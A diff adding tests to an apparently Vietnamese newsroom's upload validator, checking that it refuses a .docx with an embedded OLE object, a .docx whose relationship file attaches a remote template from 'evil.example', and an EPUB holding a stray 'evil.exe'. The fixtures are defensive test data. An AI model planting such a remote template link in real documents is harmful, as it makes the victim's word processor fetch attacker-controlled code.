@@ -16,6 +16,7 @@ import {
   type Account,
   type Answer,
 } from '../support/newsroom';
+import { zipOf } from '../unit/adapters/files/smallFiles';
 
 interface StoredFile {
   id: string;
@@ -223,6 +224,43 @@ describe('a file that is not taken', () => {
     const answer = await refusedLeavingNothing(await fixture(name));
     expect(refusal(answer)).toContain(words);
     expect(answer.status).toBe(status);
+  });
+
+  it.each<[string, string, Record<string, string>]>([
+    ['đối tượng nhúng', 'xuất tài liệu thành PDF', { 'word/embeddings/oleObject1.bin': 'x' }],
+    [
+      'tự tải thành phần từ nơi khác',
+      'Hãy gắn lại mẫu Normal',
+      {
+        'word/_rels/settings.xml.rels':
+          '<R><Relationship Type="a/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></R>',
+      },
+    ],
+  ])('is refused when an office document has %s, and the way out told: %s', async (fault, advice, parts) => {
+    const type = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document';
+    const data = await zipOf({
+      '[Content_Types].xml': `<Types><Override PartName="/word/document.xml" ContentType="${type}.main+xml"/></Types>`,
+      'word/document.xml': '<w:p xmlns:w="x"><w:t>Xin chào</w:t></w:p>',
+      ...parts,
+    });
+    const answer = await refusedLeavingNothing({ data, name: 'bao-cao.docx', mimetype: type });
+    expect(refusal(answer)).toContain(fault);
+    expect(refusal(answer)).toContain(advice);
+    expect(answer.status).toBe(422);
+  });
+
+  it('is a book with a file that is no part of it, which is named', async () => {
+    const data = await zipOf({
+      mimetype: 'application/epub+zip',
+      'META-INF/container.xml': '<c><rootfile full-path="p.opf"/></c>',
+      'p.opf': '<p><item id="c" href="c.xhtml" media-type="application/xhtml+xml"/><itemref idref="c"/></p>',
+      'c.xhtml': '<html><body>Xin chào</body></html>',
+      'evil.exe': 'MZ',
+    });
+    const file = { data, name: 'sach.epub', mimetype: 'application/epub+zip' };
+    const answer = await refusedLeavingNothing(file);
+    expect(refusal(answer)).toContain('tệp “evil.exe” không thuộc danh mục của sách');
+    expect(answer.status).toBe(422);
   });
 
   it('is a picture, which has a library of its own', async () => {
